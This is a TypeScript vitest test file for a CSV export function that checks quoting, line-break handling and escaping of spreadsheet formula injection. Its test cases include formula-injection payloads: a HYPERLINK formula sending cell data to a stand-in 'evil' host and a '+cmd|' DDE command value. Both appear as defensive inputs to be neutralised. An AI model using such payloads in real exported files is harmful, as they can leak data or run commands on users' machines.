import { describe, expect, test } from 'vitest'
import { csvCell, csvHead } from './csv.ts'

test('begins with the mark by which Excel knows UTF-8', () => {
  expect(csvHead()).toMatch(/^\uFEFF"Last time \(UTC\)","First time \(UTC\)","Times",.*"Address"\r\n$/)
})

describe('a cell', () => {
  test.each([
    ['plain words', 'acme/fileserver', '"acme/fileserver"'],
    ['commas and quotation marks', 'he said "no", twice', '"he said ""no"", twice"'],
    ['a number of ours', 12, '12'],
    ['nothing', '', '""'],
    ['a line break, which would be a row of its own', 'one\r\ntwo\u2028three', '"one two three"'],
    ['a formula', '=HYPERLINK("http://evil/"&A1,"click")', `"'=HYPERLINK(""http://evil/""&A1,""click"")"`],
    ['a formula by plus', '+1+cmd|x', `"'+1+cmd|x"`],
    ['a formula by minus', '-2+3', `"'-2+3"`],
    ['a formula by at', '@SUM(A1)', `"'@SUM(A1)"`],
    ['a formula after a tab', '\t=1', `"' =1"`],
    ['a formula after a line break', '\r\n=1', `"' =1"`],
    ['a formula in wide letters', '＝1+1', `"'＝1+1"`],
    ['signs further on', 'a=b', '"a=b"'],
  ])('holds %s', (_, value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })
})
